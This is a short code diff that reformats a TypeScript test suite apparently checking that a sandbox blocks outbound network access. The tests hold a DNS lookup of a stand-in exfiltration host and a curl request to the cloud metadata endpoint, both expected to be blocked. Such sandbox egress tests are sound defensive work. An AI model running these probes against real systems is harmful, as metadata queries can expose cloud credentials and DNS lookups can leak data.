@@ -61,7 +61,10 @@ export function describeWaysOut(scene: () => Scene): void {
 
     test('resolves no name, and says so quickly', async () => {
       const started = performance.now()
-      const output = await said(scene().box, 'getent hosts secret.exfil.example.com || echo NOTHING')
+      const output = await said(
+        scene().box,
+        'getent hosts secret.exfil.example.com || echo NOTHING',
+      )
 
       expect(output).toBe('NOTHING\n')
       expect(performance.now() - started).toBeLessThan(8000)
@@ -72,7 +75,10 @@ export function describeWaysOut(scene: () => Scene): void {
 
     test('has no cloud metadata', async () => {
       expect(await said(scene().box, dial('169.254.169.254', 80))).toMatch(/unreachable/)
-      const answer = await said(scene().box, 'curl -sS -m 5 http://169.254.169.254/latest/meta-data/')
+      const answer = await said(
+        scene().box,
+        'curl -sS -m 5 http://169.254.169.254/latest/meta-data/',
+      )
       expect(answer).toContain('blocked_by_policy')
     })
 
